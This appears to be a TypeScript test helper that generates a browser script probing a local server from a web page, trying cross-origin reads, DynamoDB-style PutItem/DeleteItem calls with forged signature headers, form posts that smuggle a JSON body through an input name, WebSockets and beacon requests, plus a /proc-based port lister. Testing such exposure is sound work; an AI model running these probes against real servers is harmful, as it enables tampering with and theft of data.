import { readdirSync, readFileSync, readlinkSync } from 'node:fs'

/** What a page could do with a server: something that loaded, or a response that it could read. */
export interface Reading {
  readonly means: string
  readonly status: number
  readonly text: string
}

/** What an attack asks for. */
export interface AttackTarget {
  /** Origin of the server. */
  readonly base: string
  /** Id of an item of the table `links`. */
  readonly linkId: string
  readonly paths: readonly string[]
}

/** Returns a script whose value is what the page in which it runs could read, by every means that a page has. */
export function attackScript(target: AttackTarget): string {
  return `(${source})(${JSON.stringify(target)})`
}

/** It tries to read, and to write what would make a spent link work again, plant an object or issue a link. */
const source = /* js */ `async ({ base, linkId, paths }) => {
  const readings = []
  const note = (means, status, text) => readings.push({ means, status, text: text.slice(0, 2000) })
  const within = (ms, promise) => Promise.race([promise, new Promise(resolve => setTimeout(resolve, ms))])
  const send = async (means, url, init) => {
    try {
      // Most of the time is in the browser's queue: of hundreds, it sends six at a time.
      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(60_000) })
      if (response.type === 'opaque') return
      const reader = response.body?.getReader()
      const first = await within(1000, reader?.read())
      note(means, response.status, new TextDecoder().decode(first?.value))
      reader?.cancel()
    } catch {}
  }
  const calls = [
    ['ListTables', {}], ['Scan', { TableName: 'links' }],
    ['PutItem', { TableName: 'links', Item: { id: { S: 'planted' } } }],
    ['DeleteItem', { TableName: 'links', Key: { id: { S: linkId } } }],
  ]
  const signed = operation => ({
    'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.' + operation,
    'x-amz-date': '20261125T000000Z',
    authorization: 'AWS4-HMAC-SHA256 Credential=local/20261125/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00',
  })
  const bodies = { 'application/json': '{"key":"planted.txt"}', 'text/plain': '{"key":"planted.txt"}' }
  const tries = calls.flatMap(([operation, input]) => [
    send('fetch ' + operation, base + '/', { method: 'POST', headers: signed(operation), body: JSON.stringify(input) }),
    send('simple fetch ' + operation, base + '/?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=a&X-Amz-Signature=b&X-Amz-SignedHeaders=host&X-Amz-Date=20261125T000000Z',
      { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(input) }),
  ])
  for (const path of paths) {
    const url = base + path
    tries.push(send('fetch GET ' + path, url, {}), send('fetch no-cors ' + path, url, { mode: 'no-cors', credentials: 'include' }))
    for (const method of ['PUT', 'DELETE']) tries.push(send('fetch ' + method + ' ' + path, url, { method, ...(method === 'PUT' && { body: 'planted' }) }))
    for (const [type, body] of Object.entries(bodies)) {
      tries.push(send('fetch POST ' + type + ' ' + path, url, { method: 'POST', headers: { 'content-type': type }, body }))
      tries.push(send('no-cors POST ' + type + ' ' + path, url, { method: 'POST', mode: 'no-cors', headers: { 'content-type': type }, body }))
    }
    navigator.sendBeacon(url, new Blob([bodies['text/plain']], { type: 'text/plain' }))
    for (const [tag, attribute, more] of [['img', 'src'], ['script', 'src'], ['link', 'href', { rel: 'stylesheet' }], ['video', 'src']]) {
      tries.push(within(3000, new Promise(resolve => {
        const element = Object.assign(document.createElement(tag), more, { [attribute]: url })
        element.onload = element.onloadeddata = () => (note(tag + ' ' + path, 200, 'loaded'), resolve())
        element.onerror = resolve
        document.body.append(element)
      })))
    }
    tries.push(within(3000, new Promise(resolve => {
      const socket = new WebSocket(url.replace('http', 'ws'))
      socket.onopen = () => (note('WebSocket ' + path, 101, 'open'), resolve())
      socket.onerror = resolve
    })))
    for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded', 'get']) {
      tries.push(within(3000, new Promise(resolve => {
        const frame = Object.assign(document.createElement('iframe'), { name: path + enctype })
        document.body.append(frame)
        const form = Object.assign(document.createElement('form'), { action: url, target: frame.name })
        if (enctype !== 'get') Object.assign(form, { method: 'post', enctype })
        form.append(Object.assign(document.createElement('input'), { name: '{"key":"planted.txt","x":"', value: '"}' }))
        document.body.append(form)
        frame.onload = () => {
          let text
          try { text = frame.contentDocument?.documentElement.textContent } catch {}
          if (text) note('form ' + enctype + ' ' + path, 0, text)
          resolve()
        }
        form.submit()
      })))
    }
  }
  await Promise.all(tries)
  document.body.replaceChildren()
  return readings
}`

/** Returns the ports of IPv4 on which a process of this machine listens. Needs Linux. */
export function listeningPorts(pid: number): readonly number[] {
  const folder = `/proc/${pid}/fd`
  const links = new Set(
    readdirSync(folder).map(fd => {
      try {
        return readlinkSync(`${folder}/${fd}`)
      } catch {
        return '' // closed since
      }
    }),
  )
  return listeners().flatMap(({ inode, port }) => (links.has(`socket:[${inode}]`) ? [port] : []))
}

/** Returns all sockets of this machine that listen. */
function listeners(): readonly { readonly port: number; readonly inode: string }[] {
  const tables = ['/proc/net/tcp', '/proc/net/tcp6'].map(file => readFileSync(file, 'utf8'))
  return tables.flatMap(table => {
    const rows = table.split('\n').map(line => line.trim().split(/\s+/))
    return rows.flatMap(([, local = '', , state, , , , , , inode = '']) => {
      const [, port = ''] = local.split(':')
      return state === '0A' ? [{ port: Number.parseInt(port, 16), inode }] : []
    })
  })
}
